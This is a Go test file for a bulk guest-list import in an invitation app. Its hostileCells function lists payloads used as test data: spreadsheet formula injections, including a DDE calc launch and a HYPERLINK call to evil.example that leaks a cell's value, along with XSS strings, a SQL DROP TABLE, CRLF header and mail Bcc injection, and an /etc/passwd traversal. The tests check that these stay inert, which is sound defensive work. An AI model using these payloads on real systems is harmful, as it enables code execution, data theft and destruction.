package handlers_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"html"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"admitone/tokens"
)

// upload sends a form with a file, as a browser does.
func upload(t *testing.T, v *visitor, at, file string, values url.Values) answer {
	t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	part, err := w.CreateFormFile("file", "guests.csv")
	if err == nil {
		_, err = part.Write([]byte(file))
	}
	for name := range values {
		if err == nil {
			err = w.WriteField(name, values.Get(name))
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return v.do("POST", at, body.String(), header("Content-Type", w.FormDataContentType()))
}

var hiddenField = regexp.MustCompile(`<input type="hidden" name="(\w+)" value="([^"]*)">`)

// carried is what the preview's form carries on.
func (a answer) carried(then string) url.Values {
	values := url.Values{"then": {then}}
	for _, m := range hiddenField.FindAllStringSubmatch(a.body, -1) {
		values.Set(m[1], html.UnescapeString(m[2]))
	}
	return values
}

func TestAListIsLookedAtAndThenMintedOnce(t *testing.T) {
	t.Parallel()
	b := setup(t)
	room := b.room(t, "bob", "party")
	bob := b.signedIn(t, "bob")
	at := "/rooms/party/bulk"
	b.mint(t, room, tokens.Draft{Name: "Ada", Email: "Ada@mail.example"})
	bob.get("/rooms/party").wants(http.StatusOK).says(`href="/rooms/party/bulk"`)
	bob.get(at).wants(http.StatusOK).says(`enctype="multipart/form-data"`)

	const list = "Name;E-Mail;Firma\n<b>Bo</b>;bo@mail.example;x\nAda;ada@mail.example;x\nCy;nobody;x\nDi;bo@mail.example;x\n"
	preview := bob.post(at, url.Values{"list": {list}, "expires": {"7d"}}).wants(http.StatusOK)
	preview.says("1 good row", "1 with a problem", "2 duplicates", "Firma", "not a mail address", "&lt;b&gt;Bo&lt;/b&gt;", "3 (line 4)")
	if n := b.count(t, room); n != 1 {
		t.Fatalf("a look made %d invitations", n-1)
	}
	bob.post(at, url.Values{"list": {"Wer;E-Mail\nZed;zed@mail.example\n"}}).wants(http.StatusOK).says("One guest will have no name")
	mint := preview.carried("mint")
	first := bob.post(at, mint).wants(http.StatusSeeOther).Header.Get("Location")
	second := bob.post(at, mint).wants(http.StatusSeeOther).Header.Get("Location")
	first, left := strings.CutSuffix(first, "?left=3")
	if !left || first != second || b.count(t, room) != 2 {
		t.Errorf("two presses led to %s and %s, and to %d invitations", first, second, b.count(t, room))
	}
	bob.get(first + "?left=3").wants(http.StatusOK).says("3 rows were left out")
	bob.get(first).wants(http.StatusOK).says("1 invitation is created", "/rooms/party/sheet?batch=batch_")
	all, err := b.Invitations.Store.List(t.Context(), tokens.Query{Room: room.ID, Text: "bo@", Limit: 9})
	if err != nil || len(all) != 1 || all[0].ExpiresAt != b.Clock.Now().Add(7*24*time.Hour).UnixMilli() {
		t.Errorf("%+v, %v", all, err)
	}
	a := bob.get(first + "/links.csv").wants(http.StatusOK)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "<b>Bo</b>" || !strings.Contains(rows[1][8], "/i/") || !strings.Contains(a.Header.Get("Content-Disposition"), `filename="party-links.csv"`) {
		t.Errorf("%q, %v, %v", rows, err, a.Header)
	}

	// Looked at again, only the bad row is not invited; it is shown as changed where it was judged otherwise.
	again := bob.post(at, url.Values{"list": {list}}).wants(http.StatusOK).says("3 duplicates").carried("mint")
	bob.post(at, again).wants(http.StatusConflict).says("Nothing was created")
	again.Set("again", "true")
	bob.post(at, again).wants(http.StatusSeeOther)
	if n := b.count(t, room); n != 5 {
		t.Errorf("%d invitations", n)
	}
	bob.post(at, preview.carried("edit")).wants(http.StatusOK).says("Di;bo@mail.example;x")
}

func TestAListComesAsAFile(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.room(t, "bob", "party")
	bob := b.signedIn(t, "bob")
	at := "/rooms/party/bulk"
	wide := "\xff\xfe" + "n\x00a\x00m\x00e\x00\n\x00\x20\x5f\x1f\x4f\n\x00"
	a := upload(t, bob, at, wide, url.Values{"list": {"ignored"}}).wants(http.StatusOK).says("\u5f20\u4f1f", "1 good row")
	if got := a.carried("")["list"][0]; !strings.HasPrefix(got, "name\n") || strings.Contains(got, "\x00") {
		t.Errorf("the form carries %q", got)
	}
	upload(t, bob, at, "", url.Values{"list": {"Ada\nBo"}}).wants(http.StatusOK).says("2 good rows")
	upload(t, bob, at, "", nil).wants(http.StatusUnprocessableEntity).says("nobody on this list")
	upload(t, bob, at, strings.Repeat("x\n", tokens.MaxBatch+1), nil).wants(http.StatusUnprocessableEntity).says("more than 10,000 rows")
	upload(t, bob, at, strings.Repeat("x", tokens.MaxGuestList+1), nil).wants(http.StatusUnprocessableEntity).says("larger than 8 MiB")
	upload(t, bob, at, strings.Repeat("x", tokens.MaxGuestList+2<<20), nil).wants(http.StatusRequestEntityTooLarge)
}

// TestHostileCellsAreInert holds 300 hostile cells, in each column, against the
// preview, the minted rows and the CSV: F26 and F27.
func TestHostileCellsAreInert(t *testing.T) {
	t.Parallel()
	b := setup(t)
	room := b.room(t, "bob", "party")
	bob := b.signedIn(t, "bob")
	at := "/rooms/party/bulk"
	cells := hostileCells()
	if len(cells) < 300 {
		t.Fatalf("only %d cells", len(cells))
	}
	var list bytes.Buffer
	w := csv.NewWriter(&list)
	_ = w.Write([]string{"name", "email", "role", "expires_in", "expires_at", "not_before", "max_uses", "pin", "external_id", "locale"})
	for i, c := range cells {
		row := make([]string, 10)
		row[0], row[i%10] = fmt.Sprint("Guest ", i), c
		_ = w.Write(row)
	}
	w.Flush()
	a := upload(t, bob, at, list.String(), nil).wants(http.StatusOK)
	for _, live := range []string{"<script>alert", "<img src=x", "onerror=alert(1)>", "\x00"} {
		if strings.Contains(a.body, live) {
			t.Errorf("the preview holds %q", live)
		}
	}
	if at := strings.Index(a.body, "<tbody>"); at < 0 || len(a.body)-at > 2<<20 {
		t.Errorf("the table takes %d bytes", len(a.body)-at)
	}
	to := bob.post(at, a.carried("mint")).wants(http.StatusSeeOther).Header.Get("Location")
	to, _, _ = strings.Cut(to, "?")
	table := bob.get(to + "/links.csv").wants(http.StatusOK).body
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(table, "\ufeff"))).ReadAll()
	if err != nil || len(rows) < 50 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("a spreadsheet would compute %q", cell)
			}
		}
	}
	if n := b.count(t, room); n != len(rows)-1 {
		t.Errorf("%d invitations and %d rows", n, len(rows)-1)
	}
}

// hostileCells are cells that hurt somebody somewhere.
func hostileCells() (all []string) {
	all = append(all, strings.Repeat("x", 1<<20), strings.Repeat("张", 300000), strings.Repeat("\"", 1001), "\x00", "Ada\x00Bo", "\xff\xfe", "\xed\xa0\x80", "\xc0\xaf", "a\ufffdb")
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\ufeff=", "\u200b=", "'=", "\"=", ";=", ",="}
	for _, s := range starts {
		for _, rest := range []string{"1+1", "cmd|'/C calc'!A0", `HYPERLINK("http://evil.example?"&A1,"x")`, "SUM(A1:A9)", "IMPORTXML(1,2)", "2+5+cmd|' /C notepad'!A0", "DDE(1;2;3)", "A1", "WEBSERVICE(1)"} {
			all = append(all, s+rest)
		}
	}
	for _, s := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", `"><script>alert(1)</script>`, "javascript:alert(1)", "{{7*7}}", "${7*7}", "%00", "%0d%0aSet-Cookie: x=1", "';DROP TABLE invitations;--",
		"\u202egnp.exe", "\u2066Ada\u2069", "\u200f\u200e", "\u2028", "\u2029", "\u0000", "\x1b[31m", "\x07", "\x7f", "\u0085", "👩‍👩‍👧‍👦", strings.Repeat("\u0301", 5000), "../../etc/passwd", "http://evil.example/", "mailto:x@y", "a@b@c", "ada@mail.example\nBcc: x@y", "ada@mail.example,x@y", "<ada@mail.example>"} {
		for _, around := range []string{"", " ", "\n", "x", "\u202e", "\""} {
			all = append(all, around+s+around)
		}
	}
	return all
}
